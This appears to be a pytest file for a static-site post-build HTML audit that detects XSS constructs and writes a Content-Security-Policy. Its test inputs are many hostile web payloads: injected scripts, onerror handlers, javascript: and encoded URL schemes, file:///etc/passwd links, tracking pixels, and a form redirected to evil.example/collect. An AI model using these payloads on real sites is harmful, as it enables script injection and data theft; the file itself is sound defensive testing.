"""The post-build audit (:mod:`kaikki.site.audit`) over hand-written hostile HTML: every forbidden construct
is found with its kind, every construct the theme and the project produce passes, and the
Content-Security-Policy written into a page carries exactly the hashes of what the audit accepted.

The allowed inline scripts are read from the installed Material theme and the plugin's own templates,
the way the build reads them, so a page here looks like a page of the site.
"""

from __future__ import annotations

import base64
import hashlib
import time
from pathlib import Path

import material
import pytest

from kaikki.mkdocs.plugin import TEMPLATES_DIR
from kaikki.mkdocs.postbuild import audit_policy, theme_scripts
from kaikki.site import Redirect
from kaikki.site.audit import (
    AuditPolicy,
    EarlyAudit,
    audit_page,
    audit_site,
    content_security_policy,
    css_urls,
    insert_csp,
    script_templates,
)

MATERIAL = str(Path(material.__file__).parent / "templates")
SCRIPTS = theme_scripts([str(TEMPLATES_DIR), MATERIAL], [str(TEMPLATES_DIR)])
POLICY = audit_policy(
    "https://kirjasto.example/",
    SCRIPTS,
    [Redirect("practices/vanha", "practices/uusi/index.md")],
    ["fi", "sv"],
    "fi",
)

MD_SCOPE = (
    '__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}'
    "catch(e){{}}}}"
)
TARGET = (
    "var target=document.getElementById(location.hash.slice(1));"
    'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
)


def page(body: str = "", head: str = "", base: str = "../..") -> bytes:
    """A page the way Material writes one (at practices/x/index.html), with ``head`` and ``body`` added."""
    return f"""<!doctype html>
<html lang="fi" class="no-js">
  <head>
      <meta charset="utf-8">
      <meta name="viewport" content="width=device-width,initial-scale=1">
      <link rel="canonical" href="https://kirjasto.example/practices/x/">
      <link rel="alternate" href="{base}/sv/practices/x/" hreflang="sv">
      <link rel="icon" href="{base}/assets/images/favicon.png">
      <title>Kortti</title>
      <link rel="stylesheet" href="{base}/assets/stylesheets/main.css">
      <script>{MD_SCOPE.format(base=base)}</script>
      {head}
  </head>
  <body dir="ltr">
    <form class="kaikki-search-form" role="search" action="{base}/search/" method="get"
          id="kaikki-search-form">
      <input type="search" name="q"><button type="submit">Hae</button>
    </form>
    <script>{TARGET}</script>
    <a href="https://www.oph.fi/">OPH</a> <a href="mailto:a@b.fi">posti</a>
    <a href="tel:+358401234567">puh</a>
    <a href="#tausta">Tausta</a> <a href="../y/">toinen</a>
    {body}
    <script id="__config" type="application/json">{{"base": "{base}", "search": null}}</script>
    <script src="{base}/assets/javascripts/bundle.a5f9d56c.min.js"></script>
  </body>
</html>
""".encode()


def kinds(
    body: str = "", head: str = "", policy: AuditPolicy = POLICY, where: str = "practices/x/index.html"
):
    findings, _ = audit_page(where, page(body, head), policy)
    return [f.kind for f in findings]


# -- what passes ----------------------------------------------------------------------------------------


def test_a_page_as_the_theme_and_the_project_write_it_passes_and_gets_its_policy() -> None:
    findings, written = audit_page("practices/x/index.html", page(), POLICY)
    assert findings == []
    assert written is not None
    policy = content_security_policy([_hash(MD_SCOPE.format(base="../..")), _hash(TARGET)])
    meta = f'\n<meta http-equiv="Content-Security-Policy" content="{policy}">'.encode()
    # Right after <meta charset>, before every script; nothing else of the page changed.
    assert written.index(meta) == written.index(b'<meta charset="utf-8">') + len(b'<meta charset="utf-8">')
    assert written.replace(meta, b"") == page()


def _hash(text: str) -> str:
    return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def test_the_theme_snippet_matches_at_any_depth_and_on_the_404_page() -> None:
    assert kinds() == []
    assert kinds() == [] and audit_page("index.html", page(base="."), POLICY)[0] == []
    # The 404 page is rendered with root-relative URLs.
    body = page(base="").replace(b'URL("",location)', b'URL("/",location)')
    assert audit_page("404.html", body, POLICY)[0] == []


@pytest.mark.parametrize(
    "body",
    [
        '<th style="text-align: left;">a</th>',
        '<img src="../../practices/x/kuva.png" alt="">',
        '<img src="https://kirjasto.example/practices/x/kuva.png" alt="">',
        '<img srcset="a.png 1x, b,c.png 2x" src="a.png" alt="">',
        '<link rel="alternate" type="application/rss+xml" href="https://other.example/feed.xml">',
        '<a href="https://toinen.example/" rel="noopener">ulos</a>',
        "<noscript><p>Ilman JavaScriptiä</p></noscript>",
    ],
)
def test_what_markdown_and_the_templates_produce_passes(body: str) -> None:
    assert kinds(body) == []


def test_the_search_page_scripts_pass_and_allow_webassembly() -> None:
    # The search page loads Pagefind's API as a module and the facet browser as a file; no inline script.
    search = (TEMPLATES_DIR / "kaikki" / "search.html").read_text(encoding="utf-8")
    assert script_templates(search) == []
    body = (
        '<script type="module" src="../../pagefind/pagefind.js"></script>'
        '<script src="../../assets/javascripts/kaikki-facets.js"></script>'
    )
    findings, written = audit_page("sv/search/index.html", page(body), POLICY)
    assert findings == []
    assert written is not None and b"'wasm-unsafe-eval'" in written
    # A page without Pagefind gets no WebAssembly.
    assert b"wasm-unsafe-eval" not in audit_page("practices/x/index.html", page(), POLICY)[1]


def test_a_table_alignment_style_is_allowed_by_its_hash_only() -> None:
    _, written = audit_page("practices/x/index.html", page('<td style="text-align: right;">1</td>'), POLICY)
    assert written is not None
    assert f"style-src 'self' 'unsafe-hashes' 'sha256-{_hash('text-align: right;')}'".encode() in written
    assert b"unsafe-inline" not in written


def test_a_redirect_page_may_refresh_to_a_relative_address() -> None:
    redirect = (
        b'<!doctype html><html lang="fi"><head><meta charset="utf-8"><title>Siirretty</title>'
        b'<meta http-equiv="refresh" content="0; url=../uusi/"></head>'
        b'<body><a href="../uusi/">x</a></body></html>'
    )
    assert audit_page("practices/vanha/index.html", redirect, POLICY)[0] == []
    assert audit_page("sv/practices/vanha/index.html", redirect, POLICY)[0] == []
    # The same refresh on any other page, or to another host, is a finding.
    assert [f.kind for f in audit_page("practices/x/index.html", redirect, POLICY)[0]] == ["http_equiv"]
    away = redirect.replace(b"url=../uusi/", b"url=https://evil.example/")
    assert [f.kind for f in audit_page("practices/vanha/index.html", away, POLICY)[0]] == ["http_equiv"]


# -- what is found ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<script type=module>import('https://evil.example/x.js')</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script src="//evil.example/x.js"></script>',
        '<script src="../../practices/x/liite.js"></script>',
        '<script src="../../assets/javascripts/bundle.a5f9d56c.min.js">alert(1)</script>',
        '<script src="../../../../assets/javascripts/bundle.a5f9d56c.min.js"></script>',
        '<script src="../../assets/javascripts/bundle.a5f9d56c.min.js?x=1"></script>',
        '<script src="../../assets/javascripts/..%2F..%2Fpractices/x/liite.js"></script>',
        '<script src="../../assets/javascripts/..\\..\\practices/x/liite.js"></script>',
        '<script type="text/plain" id="__config">{}</script>',
        '<script type="application/json" id="other">{}</script>',
        '<script type="application/json" id="__config">{"a": </script>',
        "<script>" + MD_SCOPE.format(base='x",alert(1),"') + "</script>",
        "<script>" + TARGET + ";alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<template><script>alert(1)</script></template>",
    ],
)
def test_scripts_that_are_not_the_themes_or_the_projects_are_found(body: str) -> None:
    assert kinds(body) == ["script"]


@pytest.mark.parametrize(
    "body",
    [
        '<img src="x.png" onerror="alert(1)" alt="">',
        '<svg onload="alert(1)"></svg>',
        '<p ONCLICK="alert(1)">x</p>',
        '<img/src="x.png"/onerror=alert(1)>',
        '<details open ontoggle="alert(1)"></details>',
    ],
)
def test_event_handlers_are_found(body: str) -> None:
    assert kinds(body) == ["event_handler"]


@pytest.mark.parametrize(
    "body",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
        '<img srcset="ok.png 1x, javascript:alert(1) 2x" alt="">',
        '<button formaction="javascript:alert(1)">x</button>',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
        '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
        '<area href="javascript:alert(1)">',
    ],
)
def test_unsafe_url_schemes_are_found(body: str) -> None:
    assert kinds(body) == ["url_scheme"]


@pytest.mark.parametrize(
    "body",
    [
        '<img src="https://tracker.example/p.gif" alt="">',
        '<img src="//tracker.example/p.gif" alt="">',
        '<img src="/\\tracker.example/p.gif" alt="">',
        '<img src="https:tracker.example/p.gif" alt="">',
        '<img srcset="a.png 1x, https://tracker.example/b.png 2x" alt="">',
        '<link rel="stylesheet" href="https://cdn.example/x.css">',
        '<link rel="icon" href="https://cdn.example/favicon.ico">',
        '<link rel="preload" href="https://cdn.example/font.woff2" as="font">',
        '<link rel="alternate stylesheet" href="https://cdn.example/x.css">',
        '<link href="https://cdn.example/x.css">',
        '<video poster="https://cdn.example/p.jpg"></video>',
        '<video><source src="https://cdn.example/v.mp4"><track src="https://cdn.example/t.vtt"></video>',
        '<audio src="https://cdn.example/a.mp3"></audio>',
        '<input type="image" src="https://cdn.example/b.png" alt="x">',
        '<a href="../y/" ping="https://tracker.example/ping">x</a>',
        '<svg><image href="https://tracker.example/p.svg"/></svg>',
        '<svg><use xlink:href="https://tracker.example/s.svg#i"/></svg>',
        '<p style="background:url(https://tracker.example/p.gif)">x</p>',
        "<p style=\"background:url('//tracker.example/p.gif')\">x</p>",
        '<p style="background:u\\72l(https://tracker.example/p.gif)">x</p>',
        '<p style="background:ur/**/l(x) url(https://tracker.example/p.gif)">x</p>',
        "<p style=\"background-image:image-set('https://tracker.example/p.gif' 1x)\">x</p>",
        '<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>',
    ],
)
def test_resources_from_other_hosts_are_found(body: str) -> None:
    found = kinds(body)
    assert found and set(found) == {"foreign"}


@pytest.mark.parametrize(
    "head",
    [
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<meta http-equiv="Set-Cookie" content="a=b">',
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    ],
)
def test_meta_http_equiv_other_than_the_projects_is_found(head: str) -> None:
    assert kinds(head=head) == ["http_equiv"]


@pytest.mark.parametrize(
    "body",
    [
        '<iframe src="../y/"></iframe>',
        '<object data="../y/x.swf"></object>',
        '<embed src="../y/x.swf">',
        '<base href="https://evil.example/">',
        '<form action="../y/" method="post"><input name="x"></form>',
        '<form action="../y/" id="other"><input name="x"></form>',
        "<style>body{display:none}</style>",
        "<frameset><frame src='../y/'></frameset>",
    ],
)
def test_forbidden_elements_are_found(body: str) -> None:
    assert "element" in kinds(body)


def test_the_search_form_must_stay_on_the_site() -> None:
    body = page().replace(b'action="../../search/"', b'action="https://evil.example/collect"')
    found = audit_page("practices/x/index.html", body, POLICY)[0]
    assert sorted(f.kind for f in found) == ["element", "foreign"]


def test_a_finding_names_the_page_and_shows_the_construct() -> None:
    hostile = page('<img src="x" onerror="alert(1)">', base="../../..")
    findings, written = audit_page("sv/practices/x/index.html", hostile, POLICY)
    assert written is None  # a page with a finding gets no policy: the build fails anyway
    (finding,) = findings
    assert finding.page == "sv/practices/x/index.html"
    assert finding.detail == "<img onerror='alert(1)'>"


# -- pieces -------------------------------------------------------------------------------------------


def test_css_urls_sees_through_escapes_comments_and_quotes() -> None:
    assert css_urls("a{background:u\\72 l( 'x.png' )}") == ["x.png"]
    assert css_urls("@import 'a.css'; @import url(b.css);") == ["a.css", "b.css"]
    assert css_urls("a{b:c}/* url(x) */") == []


def test_insert_csp_refuses_a_page_without_a_leading_charset() -> None:
    assert insert_csp(b'<html><head><script>x</script><meta charset="utf-8">', "x") is None
    assert insert_csp(b"<html><head><title>x</title></head>", "x") is None


def test_script_templates_skip_scripts_with_jinja_statements() -> None:
    source = "<script>var a = {{ x | tojson }};</script><script>{% if y %}b(){% endif %}</script>"
    (template,) = script_templates(source)
    assert template.matches('var a = {"k": [1, "</"]};')
    assert not template.matches("var a = 1;alert(1);")
    assert not template.matches("var a = alert(1);")


def test_audit_site_writes_every_policy_only_when_the_site_passes(tmp_path: Path) -> None:
    (tmp_path / "assets" / "javascripts").mkdir(parents=True)
    (tmp_path / "assets" / "javascripts" / "bundle.a5f9d56c.min.js").write_text("", encoding="utf-8")
    (tmp_path / "practices" / "x").mkdir(parents=True)
    good = tmp_path / "practices" / "x" / "index.html"
    good.write_bytes(page())
    result = audit_site(tmp_path, POLICY)
    assert result.ok and result.pages == 1
    assert b"Content-Security-Policy" in good.read_bytes()

    good.write_bytes(page())
    bad = tmp_path / "index.html"
    bad.write_bytes(page('<img src="https://tracker.example/p.gif">', base="."))
    result = audit_site(tmp_path, POLICY)
    assert [(f.page, f.kind) for f in result.findings] == [("index.html", "foreign")]
    assert good.read_bytes() == page() and bad.read_bytes() == page(
        '<img src="https://tracker.example/p.gif">', base="."
    )


def test_an_early_audit_stands_for_pages_unchanged_since_and_not_for_changed_ones(tmp_path: Path) -> None:
    (tmp_path / "assets" / "javascripts").mkdir(parents=True)
    (tmp_path / "assets" / "javascripts" / "bundle.a5f9d56c.min.js").write_text("", encoding="utf-8")
    paths = {}
    for name in "abc":
        paths[name] = tmp_path / "practices" / name / "index.html"
        paths[name].parent.mkdir(parents=True)
        paths[name].write_bytes(page())
    early = EarlyAudit(tmp_path, ["practices/a/index.html", "practices/b/index.html"], POLICY)
    deadline = time.monotonic() + 60
    while not all(b"Content-Security-Policy" in paths[name].read_bytes() for name in "ab"):
        assert time.monotonic() < deadline, "the early audit wrote no policy"
        time.sleep(0.05)
    # Page b changes after the early audit: it is audited again (and found). Page a is not: read again,
    # its policy would be a second, unknown http-equiv. Page c was never read early.
    hostile = paths["b"].read_bytes().replace(b"</body>", b'<img src="https://tracker.example/p.gif"></body>')
    paths["b"].write_bytes(hostile)
    result = audit_site(tmp_path, POLICY, [early])
    assert sorted((f.page, f.kind) for f in result.findings) == [
        ("practices/b/index.html", "foreign"),
        ("practices/b/index.html", "http_equiv"),
    ]
    assert result.pages == 3
